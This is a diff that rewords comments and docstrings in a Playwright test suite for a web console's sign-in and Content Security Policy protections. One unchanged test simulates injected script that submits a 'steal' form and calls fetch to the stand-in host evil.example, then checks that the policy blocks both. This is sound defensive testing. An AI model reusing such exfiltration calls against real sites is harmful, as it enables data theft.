@@ -1,4 +1,4 @@
-"""The console as somebody meets it who is not let in, or who wants more than he may, in the browser."""
+"""The console as people see it who are not let in, or who want more than they may, in the browser."""
 
 from __future__ import annotations
 
@@ -99,7 +99,7 @@ async def test_a_link_of_elsewhere_leads_there_and_leaves_other_tabs_as_they_are
         await other.goto(f"{server.url}/ui/sign-in?next=/ui/threads")
         await sign_in(page, keys["run"].secret)
         await expect(page).to_have_url(f"{server.url}/ui")
-        await sign_in(other, keys["run"].secret)  # in the other tab was the form as well
+        await sign_in(other, keys["run"].secret)  # the other tab showed the form as well
         await expect(other).to_have_url(f"{server.url}/ui/threads")
 
         async def linking(route: Any) -> None:
@@ -184,7 +184,7 @@ async def test_the_policy_stops_what_gets_into_a_page_all_the_same(serve: Any, v
         await seen.page.route("**/ui/system", plant)
         page = await seen.go("/ui/system")
         await page.locator("#js").click()
-        await page.locator("#mark").click()  # a real one: within `evaluate` the debugger lets `eval` through
+        await page.locator("#mark").click()  # a real click: within `evaluate` the debugger lets `eval` through
         await page.evaluate("() => document.getElementById('steal').submit()")
         await page.evaluate("() => fetch('https://evil.example/').catch(() => {})")
         assert await page.evaluate("() => window.wasHit") is None
@@ -192,11 +192,11 @@ async def test_the_policy_stops_what_gets_into_a_page_all_the_same(serve: Any, v
         assert page.url == f"{server.url}/ui/system"
         assert len([one for one in seen.complaints if "Content Security Policy" in one]) >= 6
         seen.complaints.clear()
-        seen.elsewhere.clear()  # Playwright tells of them before the policy stops them
+        seen.elsewhere.clear()  # Playwright reports them before the policy stops them
 
 
 async def test_no_page_of_elsewhere_has_it_in_a_frame_or_its_forms_sent(serve: Any, visit: Any, tmp_path: Path) -> None:
-    """Another port is another origin, and the same site: what `SameSite` lets through is stopped all the same."""
+    """Another port is another origin but the same site: what `SameSite` lets through is stopped all the same."""
     server = await serve(settings=SETTINGS)
     keys = await keys_of(tmp_path)
     async with Store.open(f"sqlite:///{tmp_path / 'runs.db'}") as store:
